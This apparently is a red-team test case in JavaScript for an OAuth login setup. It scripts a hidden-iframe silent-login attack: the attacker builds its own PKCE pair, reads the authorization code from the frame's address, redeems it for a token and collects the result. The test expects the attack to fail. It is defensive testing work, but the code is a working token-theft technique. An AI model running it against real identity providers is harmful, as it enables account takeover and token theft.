// A real attacker: runs the code flow against the provider in a hidden frame with a PKCE pair of their own, reads the
// code from the frame's address, and redeems it. Against public clients this gives a token of their own.
import { asked } from "../facts.mjs";

export default {
  row: "silent-login-frame",
  expected: ["loses", "loses"],
  peers: true,
  fresh: true,
  after: async ({ ours, own, home, id, subject, page, isolated }, redteam) => {
    const encode = (bytes) =>
      btoa(String.fromCharCode(...new Uint8Array(bytes)))
        .replaceAll("+", "-")
        .replaceAll("/", "_")
        .replaceAll("=", "");
    const verifier = encode(crypto.getRandomValues(new Uint8Array(32)));
    const challenge = encode(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier)));
    const provider = ours ? id : home;
    const client = ours ? (isolated ? "strongroom-isolated" : "strongroom-inpage") : subject;
    const callback = ours ? `${home}/auth/callback` : own + page;
    const query = new URLSearchParams({
      client_id: client,
      redirect_uri: callback,
      response_type: "code",
      scope: "openid profile",
      prompt: "none",
      state: "mine",
      code_challenge: challenge,
      code_challenge_method: "S256",
    });
    const address = `${provider}/${ours ? "auth" : "authorize"}?${query}`;
    const frame = redteam.frame({ src: address, sandbox: "allow-same-origin" });
    let code = null;
    for (const end = Date.now() + 3000; Date.now() < end && !code;) {
      await redteam.wait(30);
      try {
        code = new URL(frame.contentWindow.location.href).searchParams.get("code");
      } catch {
        // Of another origin, or not there yet.
      }
    }
    const body = new URLSearchParams({
      grant_type: "authorization_code",
      client_id: client,
      redirect_uri: callback,
      code_verifier: verifier,
      code: code ?? "",
    });
    const answer = await fetch(`${provider}/${ours ? "token" : "oauth/token"}`, { method: "POST", body })
      .then((response) => response.text())
      .catch(String);
    redteam.loot(answer);
    return { code: code !== null };
  },
  // The provider was asked for a code, has sent the frame to the endpoints with its answer, and was asked to redeem something.
  reached: ({ seen, context }) =>
    asked(seen, "id", "GET", "/auth") > 0 &&
    asked(seen, context.isolated ? "vault" : "inpage", "GET", "/auth/callback") > 0 &&
    asked(seen, "id", "POST", "/token") > 0,
};
